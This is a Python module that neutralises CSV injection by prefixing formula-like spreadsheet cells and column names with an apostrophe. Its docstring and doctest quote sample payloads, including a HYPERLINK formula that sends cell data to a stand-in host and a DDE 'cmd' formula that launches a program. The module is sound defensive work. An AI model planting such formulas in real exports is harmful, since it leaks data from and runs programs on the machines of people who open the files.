"""CSV cells a spreadsheet would run as formulas, made inert ("CSV injection").

A CSV written by Lanterne is often opened in Excel or LibreOffice. A text cell that starts
with ``=``, ``+``, ``-`` or ``@`` (or a tab, a carriage return or a line feed, which some
spreadsheets skip) is read as a formula: ``=HYPERLINK("http://evil.example?"&A2, "ok")``
sends a neighbouring cell to a web site when clicked, and ``=cmd|' /C calc'!A0`` asks to
start a program. The values come from the input file, so whoever wrote that file decides.

As OWASP recommends, such a cell is written with a leading apostrophe (``'=HYPERLINK(...)``):
spreadsheets show it as text. Column names are treated the same way. Cells that are plain
numbers (``-3``, ``+1.5``, ``-2,5``, ``1e-3``) are not formulas and stay unchanged, as do
number and boolean columns. ``raw`` writing (``lanterne score --raw-csv``, or
``write_table(..., raw_csv=True)``) keeps every value as it is.

Example:
    >>> import polars as pl
    >>> frame = pl.DataFrame({"=x": ["=1+1", "-2", "-2+3+cmd|' /C calc'!A0", "ok", None]})
    >>> safe = escape_formulas(frame)
    >>> safe.columns, safe["'=x"].to_list()
    (["'=x"], ["'=1+1", '-2', "'-2+3+cmd|' /C calc'!A0", 'ok', None])
"""

from __future__ import annotations

import re

import polars as pl

#: First characters that make a spreadsheet read a cell as a formula (OWASP, plus the
#: line feed and the full-width forms some spreadsheets normalise).
FORMULA_START = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
#: The same as a character class both Python's and Polars' (Rust) regex engines read.
_STARTS = "^[=+\\-@\\t\\r\\n\uff1d\uff0b\uff0d\uff20]"
#: A plain number, signed or not, decimal point or comma, optional exponent: never a formula.
_NUMBER_BODY = r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?"
_NUMBER = f"^{_NUMBER_BODY}$"  # for Polars, where "$" is the very end of the text


def is_formula(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula.

    >>> [is_formula(t) for t in ("=A1", "@SUM(1)", "-1.5", "+33 6 12", "a=b", "\\t=1")]
    [True, True, False, True, False, True]
    """
    return bool(re.match(_STARTS, text)) and not re.fullmatch(_NUMBER_BODY, text)


def escape_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every formula-like text cell and column name prefixed by ``'``.

    Vectorised: one Polars expression per text (or categorical) column.
    """
    updates = []
    for name, dtype in frame.schema.items():
        if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum):
            text = pl.col(name).cast(pl.String)
            risky = text.str.contains(_STARTS) & ~text.str.contains(_NUMBER)
            updates.append(pl.when(risky).then(pl.lit("'") + text).otherwise(text).alias(name))
    if updates:
        frame = frame.with_columns(updates)
    taken = set(frame.columns)
    renames = {}
    for column in frame.columns:
        if is_formula(column):
            new = "'" + column
            while new in taken:  # "=x" next to a column already named "'=x"
                new = "'" + new
            taken.add(new)
            renames[column] = new
    return frame.rename(renames) if renames else frame
